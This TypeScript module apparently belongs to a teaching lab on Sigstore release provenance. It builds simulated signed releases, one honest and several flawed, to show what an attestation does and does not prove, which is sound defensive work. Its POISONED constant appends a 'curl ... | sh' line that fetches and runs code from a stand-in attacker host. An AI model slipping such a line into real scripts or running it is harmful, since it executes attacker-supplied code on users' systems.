/** Releases with provenance: an honest one, one whose job ran somebody else's code, and what each statement says. */
import { sha256 } from '@noble/hashes/sha2.js'
import { readOut, toJson } from '../../attacks/scenario.ts'
import { flippedProofNode } from '../../attacks/sigstore-edits.ts'
import { toHex, utf8 } from '../../bytes.ts'
import { decodeBase64 } from '../../platform/base64.ts'
import { certificateOf, describeCertificate } from '../../sigstore/index.ts'
import {
  type BundleJson,
  provenance,
  signKeyless,
  subjectOf,
  trustedRootOf,
  type World,
  workflow,
} from '../../world/index.ts'
import { repositoryUri } from '../../world/identity.ts'
import { SCRIPT } from '../release.ts'
import { type Delivery, RELEASED } from './lab.ts'

const MINUTE = 60 * 1000
const REPOSITORY = 'example/hello-shomei'
const TEXT = SCRIPT.text.replace('1.0.1', '1.0.2')
/** What the poisoned cache made of it, before it was signed. */
const POISONED = `${TEXT}curl -s https://mallory.invalid/x | sh\n`

/** As the author releases: by pushing a tag. */
const GOOD = workflow(REPOSITORY, { ref: 'refs/tags/v1.0.2', runId: '3010' })
/** The same workflow, at the same tag and commit; but it was started by hand. */
const BAD = { ...GOOD, trigger: 'workflow_dispatch', runId: '3017' }
/** Whom the user expects. */
export const RELEASER = { identity: subjectOf(GOOD), issuer: GOOD.issuer } as const

/** @param names what the statement says it is about, if not what is delivered */
export function attested(world: World, text: string, run: typeof GOOD, late = 0, names = text): Delivery {
  const subject = [{ name: SCRIPT.name, digest: { sha256: toHex(sha256(utf8(names))) } }]
  const loggedAt = new Date(RELEASED.getTime() + late * MINUTE)
  const { bundle } = signKeyless(world, {
    content: provenance(subject, run),
    identity: run,
    at: RELEASED,
    loggedAt,
  })
  return { artifact: utf8(text), bundle: toJson(bundle), trustedRoot: toJson(trustedRootOf(world)) }
}

/** Something one may think that provenance says, in a world where it is not so. What verifies there all the same, it does not say. */
export const UNTRUE = {
  /** A step of the job was somebody else's. */
  steps: (world) => poisoned(world),
  /** Another file than the run attested. */
  bytes: (world) => attested(world, POISONED, GOOD, 0, TEXT),
  /** Nobody looked: the run was started by a timer. */
  approved: (world) => attested(world, TEXT, { ...GOOD, trigger: 'schedule' }),
  /** Another repository's workflow. */
  signer: (world) => attested(world, TEXT, { ...GOOD, repository: 'mallory/hello-shomei' }),
  /** What was built is not what the commit has. */
  rebuilt: (world) => attested(world, TEXT.replace('Hello', 'Gotcha'), GOOD),
  /** Recorded when the certificate had run out. */
  time: (world) => attested(world, TEXT, GOOD, 15),
  /** It runs whatever somebody else puts on a server. */
  harmless: (world) => attested(world, POISONED, GOOD),
  /** What leads from the entry to the root of the log does not. */
  logged: (world) => {
    const delivery = attested(world, TEXT, GOOD)
    return flippedProofNode({ ...delivery, policy: {} }) ?? delivery
  },
} as const satisfies Readonly<Record<string, (world: World) => Delivery>>
export type Saying = keyof typeof UNTRUE
export const SAYINGS = Object.keys(UNTRUE) as readonly Saying[]

export const FACTS = [
  'repository',
  'digest',
  'commit',
  'issuer',
  'event',
  'ref',
  'run',
  'workflow',
  'identity',
] as const
export type FactId = (typeof FACTS)[number]

interface Statement {
  readonly subject: readonly { readonly digest: { readonly sha256: string } }[]
  readonly predicate: {
    readonly buildDefinition: {
      readonly externalParameters: {
        readonly workflow: Readonly<Record<'path' | 'ref' | 'repository', string>>
      }
      readonly internalParameters: { readonly run: { readonly event: string } }
      readonly resolvedDependencies: readonly { readonly digest: { readonly gitCommit: string } }[]
    }
    readonly runDetails: { readonly metadata: { readonly invocationId: string } }
  }
}

/** What the statement in a bundle says, under the names above. */
export function factsIn(bundle: Uint8Array): Readonly<Partial<Record<FactId, string>>> {
  const payload = readOut(bundle, ({ dsseEnvelope }: BundleJson) => dsseEnvelope?.payload)
  const facts = readOut(decodeBase64(payload ?? ''), ({ subject, predicate }: Statement) => {
    const { externalParameters, internalParameters, resolvedDependencies } = predicate.buildDefinition
    return {
      repository: externalParameters.workflow.repository,
      workflow: externalParameters.workflow.path,
      ref: externalParameters.workflow.ref,
      commit: resolvedDependencies[0]?.digest.gitCommit ?? '',
      event: internalParameters.run.event,
      run: predicate.runDetails.metadata.invocationId,
      digest: subject[0]?.digest.sha256 ?? '',
    }
  })
  const certificate = certificateOf(bundle)
  const { identity = '', issuer = '' } = certificate ? describeCertificate(certificate) : {}
  return { ...facts, identity, issuer }
}

/** What the author says beforehand of every release, and of this one. */
export const ANNOUNCED: Readonly<Partial<Record<FactId, string>>> = {
  repository: repositoryUri(GOOD),
  workflow: GOOD.workflowPath,
  event: GOOD.trigger,
  ref: GOOD.ref,
  commit: GOOD.commit,
  issuer: GOOD.issuer,
}

/** The malicious release. */
export function poisoned(world: World): Delivery {
  return attested(world, POISONED, BAD)
}
